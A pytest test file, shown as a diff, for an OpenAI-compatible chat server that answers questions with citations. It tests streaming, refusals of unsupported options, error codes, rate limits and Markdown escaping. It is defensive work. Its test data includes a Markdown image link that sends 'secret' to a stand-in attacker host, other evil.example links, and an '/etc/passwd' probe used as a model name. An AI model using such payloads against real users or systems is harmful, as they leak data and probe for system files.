@@ -1,0 +1,259 @@
+"""Chat windows: the official client of OpenAI's API against a real server."""
+
+from __future__ import annotations
+
+import json
+import threading
+from collections.abc import Iterator
+from pathlib import Path
+from typing import Any
+
+import openai
+import pytest
+from fastapi import FastAPI
+from fastapi.testclient import TestClient
+from openai import OpenAI
+
+from hoptrail import Index
+from hoptrail.errors import EndpointBusy
+from hoptrail.serving.server.app import create_app
+from hoptrail.serving.server.keys import Keys
+from hoptrail.serving.server.limits import ServerLimits
+from hoptrail.serving.server.openai_shapes import UNSETTLED, harmless, text_of
+from hoptrail.serving.server.workspaces import Workspace
+from serving.server.listening import listening
+from serving.server.served import NORTH, QUESTION, SOUTH, MakeApp, new_app
+from world import FACTS
+
+CHAT: list[Any] = [{"role": "user", "content": QUESTION}]
+
+
+@pytest.fixture(scope="module")
+def address(built: Path, keys: Keys, tmp_path_factory: pytest.TempPathFactory) -> Iterator[str]:
+    with listening(new_app(built, tmp_path_factory.mktemp("served"), keys)) as address:
+        yield address
+
+
+@pytest.fixture(scope="module")
+def client(address: str) -> Iterator[OpenAI]:
+    with client_at(address) as client:
+        yield client
+
+
+def client_at(address: str, key: str = NORTH) -> OpenAI:
+    return OpenAI(base_url=f"{address}/v1", api_key=key, max_retries=0)
+
+
+def extra_of(message: Any) -> dict[str, Any]:
+    found: dict[str, Any] = message.model_extra["hoptrail"]
+    return found
+
+
+def test_recipes_are_models(client: OpenAI, app: FastAPI) -> None:
+    names = [model.id for model in client.models.list()]
+    assert names[0] == "trail"
+    usable = app.state.services.workspaces.get("north").recipe_names()
+    assert set(names) == {name for name, is_usable in usable.items() if is_usable} < set(usable)
+    assert client.models.retrieve("trail").owned_by == "hoptrail"
+    with pytest.raises(openai.NotFoundError, match="no such model"):
+        client.models.retrieve("raptor")  # a recipe, but nothing was built for it
+
+
+def test_the_last_message_of_the_user_is_answered_with_citations(client: OpenAI) -> None:
+    messages: list[Any] = [
+        {"role": "system", "content": "Answer in French."},
+        {"role": "user", "content": "Where does the Isk rise?"},
+        {"role": "assistant", "content": "In the Grey Hills."},
+        {"role": "user", "content": [{"type": "text", "text": QUESTION}]},
+    ]
+    told = client.chat.completions.create(model="trail", messages=messages, temperature=0, max_tokens=5)
+    text = told.choices[0].message.content or ""
+    details = extra_of(told)
+    assert text.startswith("Isk [1]")
+    assert (details["question"], details["answer"]) == (QUESTION, "Isk")
+    assert len(details["trail"]) > 1
+    assert [one["number"] for one in details["citations"]] == list(range(1, len(details["citations"]) + 1))
+    for one in details["citations"]:
+        assert FACTS[one["title"]][one["start"] : one["end"]] == one["text"]
+        assert f"- [{one['number']}] {one['title']}: “{' '.join(one['text'].split())}”" in text.splitlines()
+    assert (told.model, told.choices[0].finish_reason) == ("trail", "stop")
+    assert told.usage is not None
+    assert told.usage.total_tokens == 0  # rules answered
+
+
+def test_a_stream_tells_hops_then_the_same_answer(client: OpenAI) -> None:
+    whole = client.chat.completions.create(model="trail", messages=CHAT)
+    options: Any = {"include_usage": True}
+    chunks = list(client.chat.completions.create(model="trail", messages=CHAT, stream=True, stream_options=options))
+    choices = [chunk.choices[0] for chunk in chunks if chunk.choices]
+    assert choices[0].delta.role == "assistant"
+    assert "".join(choice.delta.content or "" for choice in choices) == whole.choices[0].message.content
+    assert [choice.finish_reason for choice in choices if choice.finish_reason] == ["stop"]
+    told = [extra_of(chunk) for chunk in chunks if "hoptrail" in (chunk.model_extra or {})]
+    assert [one["event"] for one in told if "event" in one][:2] == ["asked", "hop"]
+    assert {**told[-1], "usage": None} == {**extra_of(whole), "usage": None}
+    assert (chunks[-1].choices, chunks[-1].usage is not None) == ([], True)
+    assert all(chunk.usage is None for chunk in chunks[:-1])
+    assert len({(chunk.id, chunk.created, chunk.model) for chunk in chunks}) == 1
+
+
+def test_a_stream_ends_as_clients_expect(app: FastAPI) -> None:
+    with TestClient(app, base_url="http://localhost", headers={"Authorization": f"Bearer {NORTH}"}) as client:
+        body = {"model": "trail", "messages": CHAT, "stream": True}
+        told = client.post("/v1/chat/completions", json=body)
+    assert told.headers["content-type"].startswith("text/event-stream")
+    lines = [line for line in told.text.split("\n") if line]
+    assert lines[-1] == "data: [DONE]"
+    assert all(line.startswith("data: ") for line in lines)
+    assert not any("usage" in json.loads(line.removeprefix("data: ")) for line in lines[:-1])
+
+
+def test_an_abstention_says_so(client: OpenAI) -> None:
+    asked: list[Any] = [{"role": "user", "content": "Who painted the ceiling of the opera in Vantry?"}]
+    told = client.chat.completions.create(model="bm25", messages=asked)
+    assert (told.choices[0].message.content or "").startswith(UNSETTLED)
+    assert extra_of(told)["abstained"] is True
+
+
+IMAGE = {"type": "image_url", "image_url": {"url": "http://127.0.0.1:9/x.png"}}
+REFUSED: list[tuple[dict[str, Any], str]] = [
+    ({"tools": [{"type": "function", "function": {"name": "f", "parameters": {}}}]}, "Tools are not supported"),
+    ({"functions": [{"name": "f", "parameters": {}}]}, "Tools are not supported"),
+    ({"messages": [{"role": "user", "content": [{"type": "text", "text": "Who?"}, IMAGE]}]}, "Images, sound and files"),
+    ({"n": 2}, "Several choices"),
+    ({"response_format": {"type": "json_object"}}, "Response formats"),
+    ({"modalities": ["text", "audio"]}, "Other modalities"),
+    ({"logprobs": True}, "Log probabilities"),
+    ({"messages": [{"role": "system", "content": "Who?"}]}, "there is no question"),
+    ({"messages": [{"role": "user", "content": " \n"}]}, "there is no question"),
+    ({"messages": [{"role": "user", "content": "x" * 8001}]}, "of at most 8,000"),
+    ({"messages": []}, "messages: List should have at least 1 item"),
+    ({"messages": [{"role": "king", "content": "Who?"}]}, "messages.0.role"),
+]
+
+
+@pytest.mark.parametrize("stream", [False, True])
+def test_what_is_not_done_here_is_refused_by_name(client: OpenAI, stream: bool) -> None:
+    for wrong, message in REFUSED:
+        request: dict[str, Any] = {"model": "trail", "messages": CHAT, "stream": stream, **wrong}
+        with pytest.raises(openai.BadRequestError, match=message) as refused:
+            client.chat.completions.create(**request)
+        assert refused.value.type == "invalid_request_error"
+        assert refused.value.code in {"not_supported", "not_valid"}
+
+
+def test_errors_are_those_that_the_client_knows(address: str, client: OpenAI) -> None:
+    for name in ("gpt-4o", "raptor", "../trail", "scripted:/etc/passwd"):
+        with pytest.raises(openai.NotFoundError) as unknown:
+            client.chat.completions.create(model=name, messages=CHAT)
+        assert unknown.value.code == "model_not_found"
+        assert unknown.value.type == "invalid_request_error"
+        assert "passwd" not in unknown.value.message
+    with client_at(address, "a-wrong-key-0123456789") as stranger:
+        with pytest.raises(openai.AuthenticationError) as refused:
+            stranger.models.list()
+        assert (refused.value.code, refused.value.type) == ("no_key", "authentication_error")
+        assert "wrong-key" not in str(refused.value.body)
+    with pytest.raises(openai.NotFoundError):
+        client.get("/nothing", cast_to=object)
+    with client_at(address, SOUTH) as south:
+        other = south.chat.completions.create(model="trail", messages=CHAT)
+    assert "Isk" not in (other.choices[0].message.content or "")
+
+
+def test_too_many_are_told_to_come_again(make_app: MakeApp, monkeypatch: pytest.MonkeyPatch) -> None:
+    begun, go_on = threading.Event(), threading.Event()
+
+    def slow(*_: Any) -> Any:
+        def work(_: Any) -> Any:
+            begun.set()
+            go_on.wait(20)
+            raise EndpointBusy("the endpoint at http://secret.example asks to wait")
+
+        return work
+
+    monkeypatch.setattr("hoptrail.serving.server.openai_routes.answering", slow)
+    ends: list[openai.APIStatusError] = []
+
+    def ask(client: OpenAI) -> None:
+        try:
+            client.chat.completions.create(model="trail", messages=CHAT)
+        except openai.APIStatusError as error:
+            ends.append(error)
+
+    app = make_app(None, ServerLimits(asks=1, queue=0))
+    with listening(app) as address, client_at(address) as client:
+        first = threading.Thread(target=ask, args=(client,))
+        first.start()
+        assert begun.wait(20)
+        with pytest.raises(openai.RateLimitError) as refused:
+            client.chat.completions.create(model="trail", messages=CHAT)
+        go_on.set()
+        first.join(20)
+    assert (refused.value.code, refused.value.type) == ("too_many", "rate_limit_error")
+    assert refused.value.response.headers["retry-after"] == "5"
+    assert isinstance(ends[0], openai.InternalServerError)
+    assert ends[0].code == "model_busy"
+    assert "secret" not in str(ends[0].body)
+
+
+def test_a_failure_in_the_middle_of_a_stream_is_told(make_app: MakeApp, monkeypatch: pytest.MonkeyPatch) -> None:
+    def broken(*_: Any) -> Any:
+        def work(_: Any) -> Any:
+            raise ZeroDivisionError("the secret of /home/someone")
+
+        return work
+
+    monkeypatch.setattr("hoptrail.serving.server.streaming.answering", broken)
+    with listening(make_app(None)) as address, client_at(address) as client:
+        chunks = client.chat.completions.create(model="trail", messages=CHAT, stream=True)
+        with pytest.raises(openai.APIError, match="inside the server") as failed:
+            list(chunks)
+    assert failed.value.code == "internal"
+    assert "secret" not in str(failed.value.body)
+
+
+def test_an_empty_workspace_has_no_models(tmp_path: Path) -> None:
+    app = create_app([Workspace("main", Index(tmp_path / "none"))], warm=False)
+    with listening(app) as address, client_at(address) as client:
+        assert list(client.models.list()) == []
+        with pytest.raises(openai.ConflictError, match="no documents yet"):
+            client.chat.completions.create(model="trail", messages=CHAT)
+
+
+# --- markup
+
+HOSTILE = [
+    "![x](http://evil.example/?q=secret)",
+    "[click](http://evil.example)",
+    "see http://evil.example/a or www.evil.example or a@evil.example",
+    "<img src=http://evil.example/x> <http://evil.example>",
+    "[1]: http://evil.example",
+    "`code` *em* _em_ ~~gone~~ $x$ &lt;",
+    "\\[x\\](http://evil.example)",
+    "first\n\n# Heading\n- item",
+]
+
+
+@pytest.mark.parametrize("text", HOSTILE)
+def test_markup_of_documents_stays_text(text: str) -> None:
+    """As a reader of Markdown sees it: what was escaped is what it was, and nothing is left that could be markup."""
+    written = harmless(text)
+    assert "\n" not in written
+    left = "".join(written.split("\\\\"))
+    for start in ("[", "]", "<", ">", "`", "*", "_", "~", "$", "&", "@", "://", "www."):
+        assert start not in left.replace(f"\\{start}", ""), start
+    assert unescaped(written) == " ".join(text.split())
+
+
+def unescaped(markdown: str) -> str:
+    """Backslashes before punctuation taken away, as Markdown has it."""
+    characters = iter(markdown)
+    return "".join(next(characters) if character == "\\" else character for character in characters)
+
+
+def test_numbers_in_brackets_are_ours_alone() -> None:
+    item = {"document": "d1", "title": "A [2] title", "start": 0, "end": 4, "text": "It is so [7]."}
+    told = text_of({"answer": "So [9]", "evidence": [item, item, {**item, "start": 1}]})
+    assert told.splitlines()[0] == "So \\[9\\] [1][2]"
+    assert told.splitlines()[2:] == [f"- [{n}] A \\[2\\] title: “It is so \\[7\\].”" for n in (1, 2)]
